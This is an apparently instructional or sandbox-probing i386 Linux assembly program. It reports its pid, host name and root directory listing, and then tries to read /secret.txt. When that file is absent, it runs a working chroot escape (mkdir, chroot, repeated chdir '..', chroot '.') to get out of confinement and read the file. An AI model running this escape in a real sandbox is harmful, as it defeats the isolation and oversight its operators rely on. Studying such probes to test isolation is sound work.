; What a program sees of the system it runs in, as a static i386 Linux program with its
; own ELF header: its pid and its parent's, the host name, the files in its root, and
; whether it can read /secret.txt. When it cannot, it tries the classic chroot escape:
; chroot into a new folder without moving the current directory, climb with "..",
; and chroot to where the climb ended.
        bits 32
        org 0x08048000

ehdr:   db 0x7f, "ELF", 1, 1, 1, 0          ; 32-bit, little-endian, version 1
        times 8 db 0
        dw 2                                ; ET_EXEC
        dw 3                                ; EM_386
        dd 1                                ; version
        dd start                            ; entry
        dd phdr - $$                        ; program headers
        dd 0                                ; section headers: none
        dd 0                                ; flags
        dw ehdr_size                        ; header size
        dw 32                               ; program header size
        dw 1                                ; one program header
        dw 0, 0, 0
ehdr_size equ $ - ehdr

phdr:   dd 1                                ; PT_LOAD
        dd 0                                ; from file offset 0
        dd $$                               ; to this address
        dd $$
        dd file_size                        ; bytes in the file
        dd file_size + 0x2000               ; and two pages of zeroed data
        dd 7                                ; read, write, execute
        dd 0x1000

SYS_EXIT_GROUP  equ 252
SYS_READ        equ 3
SYS_WRITE       equ 4
SYS_OPEN        equ 5
SYS_CLOSE       equ 6
SYS_CHDIR       equ 12
SYS_GETPID      equ 20
SYS_MKDIR       equ 39
SYS_CHROOT      equ 61
SYS_GETPPID     equ 64
SYS_UNAME       equ 122
SYS_GETDENTS64  equ 220
O_DIRECTORY     equ 0o200000

start:  cld
        mov edi, line
        mov eax, SYS_GETPID
        int 0x80
        mov [pid], eax
        mov eax, SYS_GETPPID
        int 0x80
        mov [ppid], eax
        mov eax, SYS_UNAME
        mov ebx, uts
        int 0x80
        mov esi, s_pid                      ; "pid P, parent Q, host H"
        call cat
        mov eax, [pid]
        call num
        mov esi, s_parent
        call cat
        mov eax, [ppid]
        call num
        mov esi, s_host
        call cat
        lea esi, [uts + 65]
        call cat
        call newline

list_root:
        mov esi, s_root                     ; "root: NAME NAME ..."
        call cat
        mov eax, SYS_OPEN
        mov ebx, s_slash
        mov ecx, O_DIRECTORY
        int 0x80
        mov [fd], eax
        mov eax, SYS_GETDENTS64
        mov ebx, [fd]
        mov ecx, dents
        mov edx, 2048
        int 0x80
        test eax, eax
        jle .done
        mov ebp, dents
        lea edx, [dents + eax]
.entry: cmp ebp, edx
        jae .done
        lea esi, [ebp + 19]                 ; d_name
        cmp word [esi], '.'                 ; "." and its zero
        je .next
        cmp word [esi], '..'
        jne .show
        cmp byte [esi + 2], 0
        je .next
.show:  mov al, ' '
        stosb
        call cat
.next:  movzx eax, word [ebp + 16]          ; d_reclen
        test eax, eax
        jz .done
        add ebp, eax
        jmp .entry
.done:  call newline
        mov eax, SYS_CLOSE
        mov ebx, [fd]
        int 0x80

look_for_secret:
        mov eax, SYS_OPEN
        mov ebx, s_secret
        xor ecx, ecx
        int 0x80
        mov [fd], eax
        test eax, eax
        js escape
        mov esi, s_readable
        call cat
        call show_file
        xor ebx, ebx
        jmp leave

escape: mov esi, s_hidden
        call cat
        call newline
        mov eax, SYS_MKDIR                  ; a folder inside the root
        mov ebx, s_x
        mov ecx, 0o755
        int 0x80
        mov eax, SYS_CHROOT                 ; chroot into it; the current directory stays
        mov ebx, s_x
        int 0x80
        mov ecx, 8
.climb: push ecx
        mov eax, SYS_CHDIR                  ; climb: outside the root, ".." is not stopped
        mov ebx, s_up
        int 0x80
        pop ecx
        loop .climb
        mov eax, SYS_CHROOT                 ; make where the climb ended the root
        mov ebx, s_dot
        int 0x80
        mov eax, SYS_OPEN
        mov ebx, s_secret
        xor ecx, ecx
        int 0x80
        mov [fd], eax
        test eax, eax
        js .failed
        mov esi, s_escaped
        call cat
        call show_file
        mov ebx, 3
        jmp leave
.failed:
        mov esi, s_failed
        call cat
        call newline
        xor ebx, ebx

leave:  mov eax, SYS_EXIT_GROUP
        int 0x80

; Appends the zero-terminated string at ESI to the line at EDI.
cat:    lodsb
        test al, al
        jz .end
        stosb
        jmp cat
.end:   ret

; Appends EAX in decimal to the line at EDI.
num:    push ebx
        push ecx
        push edx
        mov ebx, 10
        xor ecx, ecx
.digit: xor edx, edx
        div ebx
        push edx
        inc ecx
        test eax, eax
        jnz .digit
.out:   pop eax
        add al, '0'
        stosb
        loop .out
        pop edx
        pop ecx
        pop ebx
        ret

; Ends the line with a newline and writes it to standard output.
newline:
        mov al, 10
        stosb
        mov eax, SYS_WRITE
        mov ebx, 1
        mov ecx, line
        mov edx, edi
        sub edx, line
        int 0x80
        mov edi, line
        ret

; Appends what the file open as [fd] holds (its first line, newline included), writes
; the line and closes the file.
show_file:
        mov eax, SYS_READ
        mov ebx, [fd]
        mov ecx, edi
        mov edx, 200
        int 0x80
        test eax, eax
        jle .close
        add edi, eax
        dec edi                             ; newline() puts the newline back
.close: mov eax, SYS_CLOSE
        mov ebx, [fd]
        int 0x80
        jmp newline

s_pid:      db "pid ", 0
s_parent:   db ", parent ", 0
s_host:     db ", host ", 0
s_root:     db "root:", 0
s_slash:    db "/", 0
s_secret:   db "/secret.txt", 0
s_readable: db "/secret.txt says: ", 0
s_hidden:   db "/secret.txt is not there: trying to escape", 0
s_x:        db "x", 0
s_up:       db "..", 0
s_dot:      db ".", 0
s_escaped:  db "escaped! /secret.txt says: ", 0
s_failed:   db "escape failed: /secret.txt is still not there", 0
file_size   equ $ - $$

bss     equ $$ + file_size                  ; the zeroed pages after the file
uts     equ bss                             ; struct utsname: 6 fields of 65 bytes
pid     equ bss + 400
ppid    equ bss + 404
fd      equ bss + 408
line    equ bss + 512                       ; the line being built
dents   equ bss + 1024                      ; getdents64's buffer
